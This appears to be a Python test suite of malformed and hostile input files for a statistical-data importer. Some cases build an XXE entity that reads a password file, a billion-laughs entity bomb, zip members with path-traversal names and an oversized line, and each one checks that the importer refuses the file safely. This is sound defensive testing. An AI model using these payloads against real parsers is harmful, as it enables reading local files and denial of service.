@case("renamed_csv.xlsx")
def a_csv_named_xlsx(canary: str) -> Outcome:
    return csv_case([obs("MEX"), obs("FRA")])


@case("workbook.csv")
def a_workbook_named_csv(canary: str) -> Outcome:
    """Read as the workbook it is: the bytes decide, not the name."""
    return Accepted(xlsx(ONE_ROW), ONE_ROW_READ)


@case("workbook.xls")
def a_workbook_named_xls(canary: str) -> Outcome:
    return Accepted(xlsx(ONE_ROW), ONE_ROW_READ)


@case("workbook")
def a_workbook_without_an_extension(canary: str) -> Outcome:
    return Accepted(xlsx(ONE_ROW), ONE_ROW_READ)


@case("single_quoted_dimension.xlsx")
def a_whole_sheet_dimension_in_single_quotes(canary: str) -> Outcome:
    data = rewrite(xlsx([*ONE_ROW, ONE_ROW[1]]), {SHEET: dimension("A1:XFD1048576", "'")})
    return Refused(data, "A1:XFD1048576.*over the limit.*delete the unused rows")


@case("dimension_row_zero.xlsx")
def a_dimension_that_ends_at_row_zero(canary: str) -> Outcome:
    sheet: list[list[object]] = [HEADER4]
    sheet += [["MEX", "G", str(2000 + i), str(i)] for i in range(3)]
    data = rewrite(xlsx(sheet), {SHEET: dimension("A1:D0")})
    return Accepted(data, [obs("MEX", str(2000 + i), str(i), None, "G") for i in range(3)])


DAMAGED = "cannot be opened .*save it again in Excel and resubmit"


@case("dimension_without_a_row.xlsx")
def a_dimension_without_a_row_number(canary: str) -> Outcome:
    """openpyxl cannot open it, and its error names the landed file's path: the finding says
    the workbook is damaged and shows no path (assert_clear)."""
    data = rewrite(xlsx(ONE_ROW), {SHEET: dimension("A1:D", "'")})
    says = r"cannot be opened \(ValueError: .*could not read worksheets from the file .*resubmit"
    return Refused(data, says)


@case("truncated.xlsx")
def a_truncated_workbook(canary: str) -> Outcome:
    data = xlsx(ONE_ROW)
    return Refused(data[: len(data) // 2], DAMAGED)


@case("traversal.xlsx")
def a_workbook_with_dot_dot_member_names(canary: str) -> Outcome:
    """Parts named ../../escaped.txt and /abs/escaped.txt: read, nothing written anywhere."""
    extra = (("../../escaped.txt", b"x"), ("/abs/escaped.txt", b"y"))
    return Accepted(rewrite(xlsx(ONE_ROW), {}, extra=extra), ONE_ROW_READ)


@case("plain.zip.xlsx")
def a_zip_that_is_not_a_workbook(canary: str) -> Outcome:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("hello.txt", "REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE\nMEX,G,2020,1\n")
    return Refused(out.getvalue(), DAMAGED)


@case("sheet_laughs.xlsx")
def billion_laughs_inside_a_sheet(canary: str) -> Outcome:
    doctype = LAUGHS.replace("m:StructureSpecificData", "worksheet")
    cells = inline_row(1, HEADER4) + inline_row(2, ["&l9;", "G", "2020", "1"])
    return Refused(rewrite(xlsx([HEADER4]), {SHEET: sheet_data(cells, doctype)}), DAMAGED)


@case("sheet_xxe.xlsx")
def xxe_inside_a_sheet(canary: str) -> Outcome:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>'
    cells = inline_row(1, HEADER4) + inline_row(2, ["MEX", "G", "2020", "&xxe;"])
    return Refused(rewrite(xlsx([HEADER4]), {SHEET: sheet_data(cells, doctype)}), DAMAGED)


@case("malformed_sheet.xlsx")
def a_sheet_that_is_not_xml(canary: str) -> Outcome:
    return Refused(rewrite(xlsx(ONE_ROW), {SHEET: lambda b: b[: len(b) // 2]}), DAMAGED)


@case("encrypted_member.xlsx")
def a_workbook_whose_sheet_is_encrypted(canary: str) -> Outcome:
    return Refused(patch_zip(xlsx(ONE_ROW), SHEET, "flags", 1), "cannot be opened|password")


@case("deflate64.xlsx")
def a_workbook_packed_with_an_unsupported_method(canary: str) -> Outcome:
    return Refused(patch_zip(xlsx(ONE_ROW), SHEET, "method", 9), "cannot be opened|compression")


@case("garbage.xls")
def an_xls_with_the_right_magic_and_garbage(canary: str) -> Outcome:
    return Refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4000, DAMAGED)


@case("empty_sheet.xlsx")
def a_workbook_without_rows(canary: str) -> Outcome:
    return Refused(xlsx([]), "required column.*missing.*start from the template")


@case("workbook.tsv", "eurostat-tsv")
def a_workbook_sent_as_eurostat(canary: str) -> Outcome:
    return Refused(xlsx(ONE_ROW), f"line 1: {NUL_SAYS}")


@case("workbook_sdmx.csv", "sdmx-csv")
def a_workbook_sent_as_sdmx_csv(canary: str) -> Outcome:
    return Refused(xlsx(ONE_ROW), "cannot read as sdmx-csv .*export the data again")


# ------------------------------------------------------------------- other formats, other readers


@case("layout_empty.xlsx", "layout:knomad_remittance_inflows")
def an_empty_file_for_a_layout(canary: str) -> Outcome:
    return Refused(b"", "the file is empty; export the data again and resubmit")


@case("layout_binary.csv", "layout:knomad_remittance_inflows")
def a_binary_file_for_a_layout(canary: str) -> Outcome:
    return Refused(b"\x00\x01\x02" * 100, BINARY)


@case("layout_xxe.xml", "layout:knomad_remittance_inflows")
def an_xxe_file_for_a_layout(canary: str) -> Outcome:
    return Refused(sdmx_ml(XXE, header_id="&xxe;"), "cannot be read with a layout; try --format")


@case("eurostat_bad_key.tsv")
def a_eurostat_row_with_too_few_codes(canary: str) -> Outcome:
    data = b"indic_de,geo\\time\t2019 \nCNMIGRAT,AT\t1 \nCNMIGRAT\t2 \n"
    return Refused(data, "row 3: 'CNMIGRAT' has 1 codes.*download it again")


@case(
    "eurostat_separator.tsv",
    "eurostat-tsv",
)
def a_eurostat_file_with_a_line_separator_in_a_cell(canary: str) -> Outcome:
    data = "indic_de,geo\\time\t2019 \t2018 \nCNMIGRAT,AT\t1 x\u2028y\t2 \n".encode()
    rows: list[dict[str, object]] = [
        {"REF_AREA": "AT", "TIME_PERIOD": "2019", "OBS_VALUE": "1 x\u2028y", "SOURCE_ROW": 2},
        {"REF_AREA": "AT", "TIME_PERIOD": "2018", "OBS_VALUE": "2", "SOURCE_ROW": 2},
    ]
    return Accepted(data, rows)


@case("wdi_separator.csv", "wdi")
def a_wdi_download_with_a_line_separator_in_a_name(canary: str) -> Outcome:
    head = '"Country Name","Country Code","Indicator Name","Indicator Code","2020",\n'
    data = (head + '"Mex\u2028ico","MEX","Remittances","BX.TRF","5",\n').encode()
    row: dict[str, object] = {"REF_AREA": "MEX", "INDICATOR": "BX.TRF", "OBS_VALUE": "5"}
    return Accepted(data, [{**row, "SOURCE_ROW": 2}])


@case("wdi_not.csv", "wdi")
def the_template_sent_as_wdi(canary: str) -> Outcome:
    return Refused(csv_text([obs()]).encode(), "no WDI header row.*choose another --format")


@case("sdmx_header_only.csv", "sdmx-csv")
def an_sdmx_csv_with_only_a_header(canary: str) -> Outcome:
    data = b"DATAFLOW,REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE\n"
    return Refused(data, "cannot read as sdmx-csv .*export the data again")


@case(
    "sdmx_latin1.csv",
    "sdmx-csv",
)
def an_sdmx_csv_in_latin1(canary: str) -> Outcome:
    data = (
        "DATAFLOW,REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE,COMMENT\nMX:R(1.0),CIV,R,2021,1,Côte\n"
    )
    return Refused(data.encode("latin-1"), "UTF-8")


@case(
    "sdmx_long_line.csv",
    "sdmx-csv",
    budget_s=3,
)
def an_sdmx_csv_with_a_long_first_line(canary: str) -> Outcome:
    data = b"DATAFLOW,REF_AREA,INDICATOR,TIME_PERIOD,OBS_VALUE," + b'"a,' * (1 << 18) + b"\n"
    return Refused(data + b"MX:R(1.0),PHL,R,2021,1\n", "cannot read as sdmx-csv")
